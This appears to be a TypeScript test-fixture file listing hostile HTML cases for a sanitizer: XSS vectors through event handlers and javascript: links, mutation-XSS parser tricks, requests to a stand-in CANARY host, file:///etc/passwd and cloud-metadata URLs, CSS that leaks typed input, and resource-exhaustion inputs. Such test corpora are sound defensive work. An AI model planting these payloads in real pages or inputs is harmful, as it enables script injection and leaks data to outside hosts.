/** A page that means harm: what stands between two paragraphs, which have to be there afterwards. */
export interface HostileCase {
  readonly name: string;
  readonly html: string | Uint8Array;
  /** In any browser the rest of the page is inside what was never closed; then only the words before it are there. */
  readonly swallowsRest?: boolean;
  /** Past the limits of what is parsed: its words are kept, and it is not shown as it was stored, which is said. */
  readonly isTooMuch?: boolean;
}

/** `CANARY` becomes an address that notices every visit. */
const script = '__pwn()';
const withByte = (before: string, bytes: readonly number[], after: string) =>
  Buffer.concat([Buffer.from(before), Buffer.from(bytes), Buffer.from(after)]);
const named = (cases: Readonly<Record<string, string | Uint8Array>>): HostileCase[] =>
  Object.entries(cases).map(([name, html]) => ({ name, html }));
const swallowing = (cases: Readonly<Record<string, string>>): HostileCase[] =>
  named(cases).map((one) => ({ ...one, swallowsRest: true }));

const tooMuch = (cases: Readonly<Record<string, string>>): HostileCase[] =>
  named(cases).map((one) => ({ ...one, isTooMuch: true }));

export const scriptCases: readonly HostileCase[] = [
  ...named({
    'a script': `<script>${script}</script>`,
    'a script in odd case': `<ScRiPt/x>${script}</sCrIpT>`,
    'a script from elsewhere': '<script src=CANARY/x.js></script><script type=module src=CANARY/m.js></script>',
    'an import map and rules':
      '<script type=importmap>{"imports":{"a":"CANARY/a"}}</script><script type=speculationrules>{"prefetch":[{"urls":["CANARY/s"]}]}</script>',
    'a picture that fails': `<img src=x onerror=${script}>`,
    'a picture with slashes': `<img/src=x/onerror=${script}>`,
    'backticks for quotes': `<img src=\`x\` onerror=\`${script}\`>`,
    'a drawing that loads': `<svg/onload=${script}><g/onload=${script}></svg>`,
    'details that open': `<details open ontoggle=${script}>d</details>`,
    'fields that take the focus': `<input autofocus onfocus=${script}><select autofocus onfocus=${script}></select>`,
    'media that fail': `<video><source onerror=${script}></video><audio src=x oncanplay=${script}></audio>`,
    'a marquee': `<marquee onstart=${script}>m</marquee>`,
    'a popover': `<button popovertarget=p>x</button><div id=p popover onbeforetoggle=${script}>p</div>`,
    'a command for a dialog': `<button command=show-modal commandfor=d>x</button><dialog id=d onfocus=${script}>d</dialog>`,
    'a script address': `<a href="javascript:${script}">link</a>`,
    'a script address with tabs': `<a href="java&Tab;script:${script}">link</a><a href="java\nscript:${script}">link</a>`,
    'a script address in entities': `<a href="&#x6a;avascript&colon;${script}">link</a><a href="&#106avascript:${script}">l</a>`,
    'a script address that looks like the web': `<a href="javascript://https://ok.example/%0a${script}">link</a>`,
    'other schemes that run': `<a href="vbscript:${script}">l</a><a href="view-source:javascript:${script}">l</a><a href="jar:x">l</a>`,
    'a page in an address': `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>`,
    'forms that send': `<form action="javascript:${script}"><button formaction="CANARY/f">b</button></form><form action=CANARY/g><input type=submit></form>`,
    frames: `<iframe src="javascript:${script}"></iframe><iframe srcdoc="<script>parent.${script}</script>"></iframe><iframe src=CANARY/frame></iframe>`,
    objects: `<object data="javascript:${script}"></object><embed src="CANARY/embed"><object data=CANARY/object></object>`,
    'meta that leads away': `<meta http-equiv=refresh content="0;url=CANARY/refresh"><meta http-equiv=Content-Security-Policy content="report-uri CANARY/report">`,
    'another base': '<base href=CANARY/><a href=next>next</a><img src=base.png>',
    'links that load':
      '<link rel=stylesheet href=CANARY/s.css><link rel=modulepreload href=CANARY/m.js><link rel=import href=CANARY/i>',
    'a shadow tree': `<div><template shadowrootmode=open><img src=x onerror=${script}></template></div>`,
    declarations: `<?xml-stylesheet href=CANARY/x.xsl?><!ENTITY x SYSTEM 'file:///etc/passwd'><![CDATA[<script>${script}</script>]]>`,
    'data that libraries read': `<div data-background-iframe="javascript:${script}" data-src=CANARY/d.png>d</div>`,
    'Markdown and formulas as text': `<p>[x](javascript:${script}) \\href{javascript:${script}}{y} click A href "javascript:${script}"</p>`,
    'a body that runs': `<body onload=${script} onpageshow=${script}>`,
  }),
];

export const parserCases: readonly HostileCase[] = [
  ...named({
    'mglyph and style': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;"></table></mtext></math>`,
    'a paragraph that ends a drawing': `<svg></p><style><a title="</style><img src onerror=${script}>"></svg>`,
    'forms in formulas': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${script}></style></mglyph></form>`,
    'annotations that are pages': `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${script}></style></annotation-xml></math>`,
    noscript: `<noscript><p title="</noscript><img src=x onerror=${script}>"></noscript>`,
    'a title in a drawing': `<svg><title><style></title><img src=x onerror=${script}></style></svg>`,
    'odd comments': `<! foo="><img src=x onerror=${script}>"><!--><img src=x onerror=${script}>--><!---><img src=y onerror=${script}>-->`,
    instructions: `<?foo="><img src=x onerror=${script}>">`,
    'styles in styles': `<style><style/><img src=x onerror=${script}></style>`,
    'frames in selects': `<select><iframe></select><img src=x: onerror=${script}></iframe>`,
    'options with styles': `<select><option><style></option></select><img src=x onerror=${script}></style></select>`,
    'text that ends a text area': `<p id="</textarea><img src=x onerror=${script}>">p</p>`,
    'attributes with odd characters': `<a title=\`x\u2028<y onclick=${script}// title=z>a</a><b a&#0;b=1 onclick=${script}>b</b>`,
    'animated addresses': `<svg><a><animate attributeName=href values="javascript:${script}" begin=0s /><text>t</text></a></svg>`,
    'depth at the limit': `${'<div>'.repeat(250)}<img src=x onerror=${script}>deep${'</div>'.repeat(250)}`,
  }),
  ...tooMuch({
    'depth past the limit': `${'<div>'.repeat(600)}<img src=x onerror=${script}>deep${'</div>'.repeat(600)}`,
  }),
  ...swallowing({
    'templates in selects': `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${script}>">x</a>`,
    'a text area that never ends': `<textarea><img src=x onerror=${script}>`,
    'a comment that never ends': `<!-- <img src=x onerror=${script}>`,
    'plain text': `<plaintext><img src=x onerror=${script}>`,
  }),
];

export const remoteCases: readonly HostileCase[] = [
  ...named({
    'drawings that use others':
      '<svg><use href="CANARY/u.svg#x"/><image href=CANARY/i.png /><feImage href=CANARY/f.png /></svg>',
    'drawings with styles':
      '<svg><style>@import url(CANARY/s.css)</style><rect fill="url(CANARY/p.svg#p)" width=9 height=9 /></svg>',
    'formulas with addresses': '<math href=CANARY/m><mi xlink:href=CANARY/x>x</mi></math>',
    'a picture that is a drawing':
      '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22__pwn()%22/>" alt=d>',
    'sets of sources':
      '<img srcset="data:,x 1x, CANARY/2x.png 2x" sizes=100vw><picture><source srcset=CANARY/p.webp><img src=CANARY/p.png></picture>',
    'lazy sources':
      '<img data-src=CANARY/l.png data-srcset="CANARY/l2.png 2x" data-original=CANARY/o.png loading=lazy><noscript><img src=CANARY/n.png></noscript>',
    'every attribute that loads':
      '<video poster=CANARY/p.png><track src=CANARY/t.vtt default></video><audio src=CANARY/a.mp3 autoplay></audio><input type=image src=CANARY/i.png><table background=CANARY/b.png><tr><td background=CANARY/d.png>cell</table>',
    'styles that load':
      '<p style="background:url(CANARY/b);list-style-image:url(CANARY/l);cursor:url(CANARY/c),auto;border-image:url(CANARY/bi) 1">styled</p><i style="content:url(CANARY/co);mask:url(CANARY/m);filter:url(CANARY/f)">i</i>',
    'style sheets':
      '<style>@import url(CANARY/i.css);@font-face{font-family:f;src:url(CANARY/f.woff)}*{font-family:f}p{background:image-set(url(CANARY/is.png) 1x)}</style>',
    'styles that tell what is typed':
      '<style>input[value^=a]{background:url(CANARY/a)}p:has(b){background:url(CANARY/h)}</style><input value=abc>',
    hints:
      '<link rel=dns-prefetch href=CANARY><link rel=preconnect href=CANARY><link rel=prefetch href=CANARY/pf><link rel=prerender href=CANARY/pr><link rel=icon href=CANARY/icon.png><link rel=manifest href=CANARY/m.json>',
    'a link that is only looked at': '<a href=CANARY/link ping=CANARY/ping>link</a>',
    'files and shares':
      '<img src="file:///etc/passwd"><img src="\\\\\\\\127.0.0.1\\\\share\\\\x.png"><img src="smb://127.0.0.1/x.png"><embed src="file:///etc/passwd">',
    'addresses of the app':
      '<img src="backstory://clip/x"><img src="/snapshot/x/y.png"><iframe src="/"></iframe><img src="http://169.254.169.254/latest">',
    'media playlists': '<video src=CANARY/list.m3u8 autoplay muted></video><source src=CANARY/x.mov>',
    'parts of a message': '<img src="cid:part1@x"><img src="mid:1/2">',
  }),
];

export const deceptionCases: readonly HostileCase[] = [
  ...named({
    'names of the app':
      '<div id=root class=modal name=constructor><p id=__proto__>d</p><form id=body><input name=innerHTML></form></div>',
    'a layer over everything':
      '<div style="position:fixed;inset:0;z-index:2147483647;background:red;cursor:none">Over</div>',
    'things that take the keys':
      '<dialog open>d</dialog><p contenteditable accesskey=e tabindex=1 draggable=true autofocus>p</p>',
    'text that runs backwards': '<p>cod\u202Eexe.fdp and \u2066isolated\u2069 and \u200Bzero\u200D\uFE0F width</p>',
    'marks on marks': `<p>a${'\u0301'.repeat(10_000)} ${'\u{1F468}\u200D'.repeat(1000)}</p>`,
    'a word without end': `<p>${'w'.repeat(300_000)}</p>`,
    'half a pair': '<p>half &#xD800; pair \uFFFE\uFDD0 tag \u{E0041}</p>',
    'very many links': `<p>${'<a href="https://a.example/">a</a> '.repeat(5000)}</p>`,
    'very many references': `<p>${'&amp;&lt;'.repeat(50_000)}</p>`,
    'very many brackets': `<p>${'&lt;['.repeat(20_000)}${'{'.repeat(20_000)}</p>${'<!--'.repeat(10)}-->`,
    'very large styles': `<style>${Array.from({ length: 20_000 }, (_, at) => `.c${at}{color:red}`).join('')}</style>`,
    'a picture that is no picture': `<img src="data:image/png;base64,${'A'.repeat(200_000)}"><img src="data:image/png;base64,%%%">`,
    'a Japanese yen sign': withByte('<p>', [0x1b, 0x28, 0x4a, 0x5c, 0x1b, 0x28, 0x42], '</p>'),
    'a byte that eats a quote': withByte('<img alt="', [0x81], `" src=x onerror=${script}><p>p</p>`),
    'overlong letters': withByte('<p>', [0xc0, 0xbc, 0xe2, 0x80, 0xed, 0xa0, 0x80, 0xf8, 0x88], `script>${script}</p>`),
  }),
  ...tooMuch({
    'very many attributes': `<p ${Array.from({ length: 2000 }, (_, at) => `a${at}=1`).join(' ')}>p</p>`,
  }),
];
